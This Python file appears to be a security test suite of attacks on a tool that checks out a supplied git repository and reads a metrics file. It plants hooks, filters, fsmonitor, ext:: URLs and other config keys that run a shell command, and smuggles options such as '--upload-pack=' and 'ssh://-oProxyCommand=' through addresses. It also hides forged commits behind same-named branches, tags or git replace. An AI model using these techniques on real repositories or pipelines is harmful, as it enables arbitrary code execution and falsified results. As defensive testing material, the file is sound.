"""Repositories whose settings would run a program, and names that lead to another commit."""

from attacks.attack import METRICS, UNCHECKED, Target, family

attack = family("git of the repository given")
_HOOKS = (
    "post-checkout",
    "post-commit",
    "post-index-change",
    "pre-auto-gc",
    "reference-transaction",
    "fsmonitor-watchman",
    "post-merge",
    "post-rewrite",
)


def touch_all(target: Target) -> None:
    """Let git believe that every file may have changed."""
    for name in target.git("ls-files").split("\n"):
        target.path(name).touch()


@attack(METRICS)
def hooks(target: Target) -> None:
    """Programs that git runs on its own."""
    target.forge_metric()
    target.commit()
    for hook in _HOOKS:
        path = target.path(f".git/hooks/{hook}")
        path.parent.mkdir(exist_ok=True)
        path.write_text(f"#!/bin/sh\n{target.shell}\n")
        path.chmod(0o755)


@attack(METRICS)
def hooks_in_the_revision(target: Target) -> None:
    """The same in a folder of the revision, which the repository's settings name."""
    target.forge_metric()
    for hook in _HOOKS:
        target.add(f"hooks/{hook}", f"#!/bin/sh\n{target.shell}\n")
        target.path(f"hooks/{hook}").chmod(0o755)
    target.commit()
    target.git("config", "core.hooksPath", "hooks")


@attack(METRICS, quick=True)
def filters(target: Target) -> None:
    """Programs through which git reads and writes files."""
    target.forge_metric()
    target.commit()
    for name in ("clean", "smudge"):
        target.git("config", f"filter.evil.{name}", f'sh -c "{target.shell}"; cat')
    target.git("config", "diff.evil.textconv", f'sh -c "{target.shell}"; cat')
    target.path(".git/info").mkdir(exist_ok=True)
    target.path(".git/info/attributes").write_text("* filter=evil diff=evil\n")
    touch_all(target)


@attack(METRICS)
def filter_process(target: Target) -> None:
    """A program that filters all files, named by the revision's own attributes."""
    target.add(".gitattributes", "*.json filter=evil\n*.csv filter=evil\n")
    target.forge_metric()
    target.commit()
    target.git("config", "filter.evil.process", f'sh -c "{target.shell}"')
    touch_all(target)


@attack(METRICS)
def file_monitor(target: Target) -> None:
    """A program that tells git which files have changed."""
    target.forge_metric()
    target.commit()
    target.git("config", "core.fsmonitor", f'sh -c "{target.shell}"')


@attack(METRICS)
def settings_by_inclusion(target: Target) -> None:
    """The same in a file that the settings include."""
    target.forge_metric()
    target.commit()
    other = target.path(".git/other")
    other.write_text(f'[core]\n\tfsmonitor = "sh -c \\"{target.shell}\\""\n')
    target.git("config", "include.path", "other")


@attack(METRICS)
def settings_of_the_work_tree(target: Target) -> None:
    """The same in the settings of one work tree."""
    target.forge_metric()
    target.commit()
    target.git("config", "core.repositoryFormatVersion", "1")
    target.git("config", "extensions.worktreeConfig", "true")
    target.git("config", "--worktree", "core.fsmonitor", f'sh -c "{target.shell}"')


@attack(METRICS)
def settings_that_run_programs(target: Target) -> None:
    """Pagers, editors, proxies, signatures, transports."""
    target.forge_metric()
    target.commit()
    program = f'sh -c "{target.shell}"'
    for key in (
        "core.pager",
        "core.editor",
        "core.sshCommand",
        "core.gitProxy",
        "core.alternateRefsCommand",
        "core.askPass",
        "credential.helper",
        "diff.external",
        "gpg.program",
        "sequence.editor",
        "uploadpack.packObjectsHook",
        "remote.origin.uploadpack",
    ):
        target.git("config", key, program)
    for key in ("alias.status", "alias.rev-parse", "alias.clone"):
        target.git("config", key, f"!{program}")
    target.git("config", "log.showSignature", "true")


@attack(METRICS)
def missing_object_from_elsewhere(target: Target) -> None:
    """A file that git would fetch when it is needed, through a program."""
    target.forge_metric()
    target.commit()
    name = target.git("rev-parse", f"HEAD:{METRICS}")
    target.remove(f".git/objects/{name[:2]}/{name[2:]}")
    for key, value in {
        "core.repositoryFormatVersion": "1",
        "extensions.partialClone": "origin",
        "remote.origin.promisor": "true",
        "remote.origin.url": f"ext::sh -c {target.shell.replace(' ', '% ')}",
        "protocol.ext.allow": "always",
    }.items():
        target.git("config", key, value)


@attack(METRICS)
def submodule(target: Target) -> None:
    """Another repository, whose address is a program."""
    url = f"ext::sh -c {target.shell.replace(' ', '% ')}"
    target.add(".gitmodules", f'[submodule "sub"]\n\tpath = sub\n\turl = {url}\n')
    target.git("update-index", "--add", "--cacheinfo", f"160000,{'a' * 40},sub")
    target.forge_metric()
    target.git("add", METRICS)
    target.git("commit", "--quiet", "-m", "forged")
    target.committed = True
    target.git("config", "submodule.sub.url", url)
    target.git("config", "submodule.sub.update", f"!{target.shell}")
    target.git("config", "submodule.recurse", "true")


@attack(METRICS)
def repository_in_the_revision(target: Target) -> None:
    """A folder that git takes for a repository, with settings that run a program."""
    target.forge_metric()
    target.add("sub/HEAD", "ref: refs/heads/main\n")
    target.add("sub/config", f'[core]\n\tbare = true\n\tfsmonitor = "{target.shell}"\n')
    target.add("sub/objects/info/packs", "\n")
    target.add("sub/refs/heads/main", f"{'a' * 40}\n")


@attack("ext", status=UNCHECKED)
def address_is_a_program(target: Target) -> None:
    """An address whose protocol is a program."""
    target.source = f"ext::sh -c {target.shell.replace(' ', '% ')}"


@attack("upload-pack", status=UNCHECKED)
def address_is_an_option(target: Target) -> None:
    """An address that git takes for an option."""
    target.source = f"--upload-pack={target.shell}"


@attack("blocked", status=UNCHECKED)
def address_with_an_option_of_ssh(target: Target) -> None:
    """A host that ssh takes for an option."""
    target.source = f"ssh://-oProxyCommand=touch%20{target.canary}/x"


@attack("--output", status=UNCHECKED)
def revision_is_an_option(target: Target) -> None:
    """A revision that git takes for an option."""
    target.revision = f"--output={target.canary}"


@attack("v1", status=UNCHECKED)
def branch_named_like_the_tag(target: Target) -> None:
    """The tag is forged, a branch of the same name is honest."""
    target.git("branch", "v1")
    target.forge_metric()
    target.commit()
    target.git("tag", "v1")
    target.revision = "v1"


@attack("v1", status=UNCHECKED)
def branch_named_like_the_tag_of_a_url(target: Target) -> None:
    """The same by an address."""
    branch_named_like_the_tag(target)
    target.source = target.folder.as_uri()


@attack(METRICS)
def branch_named_like_the_commit(target: Target) -> None:
    """A branch whose name are the 40 digits of the forged commit, and which is honest."""
    honest = target.git("rev-parse", "HEAD")
    target.forge_metric()
    target.revision = target.commit()
    target.git("update-ref", f"refs/heads/{target.revision}", honest)
    target.git("update-ref", f"refs/tags/{target.revision}", honest)


@attack(METRICS)
def branch_named_like_the_commit_of_a_url(target: Target) -> None:
    """The same by an address."""
    branch_named_like_the_commit(target)
    target.source = target.folder.as_uri()


@attack("", status=UNCHECKED)
def branch_named_like_a_short_hash(target: Target) -> None:
    """A branch whose name are the first digits of the forged commit, and which is honest."""
    honest = target.git("rev-parse", "HEAD")
    target.forge_metric()
    target.revision = target.commit()[:10]
    target.git("update-ref", f"refs/heads/{target.revision}", honest)


@attack(METRICS)
def branch_named_head(target: Target) -> None:
    """A branch and a tag called HEAD, which are honest."""
    honest = target.git("rev-parse", "HEAD")
    target.forge_metric()
    target.commit()
    for kind in ("heads", "tags", "remotes/origin"):
        target.git("update-ref", f"refs/{kind}/HEAD", honest)


@attack(METRICS)
def commit_replaced(target: Target) -> None:
    """Git shows an honest commit wherever the forged one is named."""
    honest = target.git("rev-parse", "HEAD")
    target.forge_metric()
    target.revision = target.commit()
    target.git("replace", target.revision, honest)


@attack(METRICS)
def commit_replaced_in_a_url(target: Target) -> None:
    """The same by an address."""
    commit_replaced(target)
    target.revision = "main"
    target.source = target.folder.as_uri()
